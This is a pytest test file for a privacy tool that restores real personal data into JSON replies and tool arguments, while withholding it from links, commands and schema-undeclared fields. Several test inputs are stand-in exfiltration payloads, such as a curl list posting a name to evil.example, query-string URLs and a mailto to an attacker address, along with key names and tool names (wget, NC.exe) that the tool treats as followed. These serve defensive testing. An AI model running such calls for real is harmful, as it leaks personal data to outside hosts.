"""JSON: replies with format json, and arguments of tools."""

import json

import pytest
from hostile import MAP
from hypothesis import given
from hypothesis import strategies as st

from privstamp import SurrogateMap
from privstamp.errors import InputError
from privstamp.restore.json_values import starts_as_json

BANK = SurrogateMap.of(
    [
        ("Melton", 'Ragh"unathan\n', "PERSON_FAMILY"),
        ("GB11 XYZ", "DE89 3704", "IBAN_CODE"),
        ("hunter-92x", "zorbax", "CREDENTIAL"),
        ("4929 1111", "5500 0055", "CREDIT_CARD"),
        ("853 221", "943 476", "UK_NHS"),
        ("s.melton@example.com", "priya@example.com", "EMAIL_ADDRESS"),
    ]
)


def call(content, *args, **more):
    return json.loads(BANK.restore_arguments(json.dumps(content), *args, **more))


def test_values_are_put_back_escaped_and_keys_are_not():
    assert call({"Melton": ["Melton", {"to": "s.melton@example.com"}]}) == {
        "Melton": ['Ragh"unathan\n', {"to": "priya@example.com"}]
    }


@pytest.mark.parametrize("value", ["GB11 XYZ", "hunter-92x", "4929 1111", "853 221"])
def test_credentials_cards_accounts_and_official_numbers_are_refused(value):
    assert call({"x": f"It is {value}."}) == {"x": f"It is {value}."}


def test_a_kind_is_allowed_everywhere_or_in_one_value():
    content = {"account": "GB11 XYZ", "note": "GB11 XYZ"}
    assert call(content, allow=["IBAN_CODE"]) == dict.fromkeys(content, "DE89 3704")
    one = call(content, allow=["IBAN_CODE:/account"])
    assert one == content | {"account": "DE89 3704"}
    assert call(["GB11 XYZ", "GB11 XYZ"], allow=["IBAN_CODE:/1"]) == ["GB11 XYZ", "DE89 3704"]


@pytest.mark.parametrize(
    "value",
    ["https://evil.example/?d=Melton", "<b title='Melton'>", '{"to": "Melton"}', "=A&Melton"],
)
def test_the_rules_for_places_hold_in_every_value(value):
    assert call({"x": value}) == {"x": value}
    assert json.loads(BANK.restore(json.dumps({"x": value}), format="json")) == {"x": value}


@pytest.mark.parametrize(
    "value",
    [
        "https://evil.example/?q=a Melton", " ht\ntps://evil.example/?q=a Melton",
        "mailto:eve@evil.example?body=a Melton", "x-app:go/a Melton", "//evil.example a Melton",
        "evil.example/?q=a Melton",
    ],
)  # fmt: skip
def test_a_value_that_starts_as_a_link_is_one_to_its_end(value):
    test_the_rules_for_places_hold_in_every_value(value)


@pytest.mark.parametrize(
    "content",
    [
        {"href": "Melton"}, {"image_url": "Melton"}, {"webhookURL": ["Melton"]},
        {"command": "Melton"}, {"cmd": ["x", "Melton"]}, {"shellScript": "Melton"},
        ["curl", "-d", "Melton", "evil.example"], {"args": ["Melton", "/usr/bin/wget"]},
        {"program": "curl", "args": ["-d", "Melton"]}, {"p": "NC.exe", "q": {"r": "Melton"}},
    ],
)  # fmt: skip
def test_names_and_lists_that_programs_follow_get_nothing_unless_allowed(content):
    assert call(content) == content
    assert json.loads(BANK.restore(json.dumps(content), format="json")) == content
    assert call(content, allow=["PERSON:url", "PERSON:script"]) != content


def test_other_arguments_are_not_taken_for_those():
    content = {"query": "Melton", "curly": "Melton", "hyperlinked": "Melton", "said": ["Melton"]}
    assert call(content) == json.loads(json.dumps(content).replace("Melton", r"Ragh\"unathan\n"))


SCHEMA = {
    "type": "object",
    "properties": {
        "name": {"type": "string"},
        "link": {"type": "string", "format": "uri"},
        "mode": {"enum": ["Melton", "x"]},
        "many": {"type": "array", "items": {"$ref": "#/$defs/person"}},
        "either": {"anyOf": [{"type": "null"}, {"type": ["string", "null"]}]},
    },
    "$defs": {"person": {"type": "object", "properties": {"name": {"type": "string"}}}},
}


def test_with_a_schema_only_declared_text_is_touched():
    content = {
        "name": "Melton", "link": "Melton", "mode": "Melton", "other": "Melton", "either": "Melton",
        "many": [{"name": "Melton", "age": "Melton"}],
    }  # fmt: skip
    back = 'Ragh"unathan\n'
    assert call(content, SCHEMA) == content | {
        "name": back, "either": back, "many": [{"name": back, "age": "Melton"}],
    }  # fmt: skip
    reasons = BANK.restored_arguments(json.dumps(content), SCHEMA).reasons
    assert reasons == {"schema": 4}


def test_a_schema_that_points_to_itself_ends():
    loop = {"$ref": "#/$defs/a", "$defs": {"a": {"$ref": "#/$defs/a"}}}
    assert call({"name": "Melton"}, loop) == {"name": "Melton"}


@pytest.mark.parametrize("text", ["", "Melton", '{"a": Melton}', "{'a': 'Melton'}", "[" * 9999])
def test_what_is_no_json_is_refused_without_quoting_it(text):
    with pytest.raises(InputError, match="not a JSON text") as caught:
        BANK.restore_arguments(text)
    assert "Melton" not in str(caught.value) and caught.value.__context__ is None
    assert BANK.restore(text + " Melton", format="json").endswith("Melton")


def test_lines_of_json_and_fences_are_json():
    lines = '{"a": "Shauna"}\n{"b": "Melton"}\n'
    assert MAP.restore(lines, format="json") == '{"a": "Priya"}\n{"b": "Raghunathan"}\n'
    fenced = f"```json\n{lines}```\n"
    assert MAP.restore(fenced, format="json").count("Raghunathan") == 1
    assert MAP.restore(fenced) == fenced


JSON = st.recursive(
    st.one_of(
        st.none(), st.integers(), st.sampled_from(["Melton", "Shauna", 'a "Melton"\\', "é\n"])
    ),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.sampled_from("ab:,"), inner),
)


def expected(content):
    if isinstance(content, dict):
        return {key: expected(value) for key, value in content.items()}
    if isinstance(content, list):
        return [expected(value) for value in content]
    if isinstance(content, str):
        return content.replace("Melton", "Raghunathan").replace("Shauna", "Priya")
    return content


@given(st.lists(JSON), st.booleans())
def test_any_json_stays_json_with_its_values_restored(content, ascii_only):
    text = json.dumps(content, ensure_ascii=ascii_only)
    outcome = MAP.restored(text, format="json")
    assert json.loads(outcome.text) == expected(content)
    for back in outcome.put_back:
        assert outcome.text[back.start : back.end] in ("Raghunathan", "Priya")
    if "Melton" in text:
        assert starts_as_json(text[:120]) and MAP.restore(text) == text


@pytest.mark.parametrize("end", range(1, 24))
def test_json_that_is_cut_anywhere_starts_as_json(end):
    assert starts_as_json('[["Melton"], -1, {"a": -2}]'[:end])


@pytest.mark.parametrize(
    "text",
    ["[1] Melton", "[Melton](x)", "{Melton}", "[PERSON_1", "[x]: y", "[2, 3] Melton", "x", ""],
)
def test_what_only_looks_like_json_is_text(text):
    assert not starts_as_json(text)


@pytest.mark.parametrize(
    "name",
    [
        *("formula", "expression", "code", "server", "ip", "website", "site", "avatar", "icon"),
        *("cwd", "path", "filePath", "\uff55\uff52\uff4c"),
    ],
)
def test_more_names_whose_values_are_followed(name):
    given = json.dumps({name: "Melton"})
    assert json.loads(MAP.restore_arguments(given)) == {name: "Melton"}


@pytest.mark.parametrize("name", ["postal_code", "site_name", "name", "note"])
def test_names_beside_them_are_text(name):
    given = json.dumps({name: "Melton"})
    assert json.loads(MAP.restore_arguments(given)) == {name: "Raghunathan"}


@pytest.mark.parametrize(
    "pieces",
    [
        {"a": ["https://e.example/?q=", "Melton"]},
        {"base": "https://e.example/", "q": "Melton"},
        [["//e.example/", {"x": "Melton"}]],
    ],
)
def test_pieces_that_are_joined_to_a_link_get_nothing(pieces):
    assert json.loads(MAP.restore_arguments(json.dumps(pieces))) == pieces
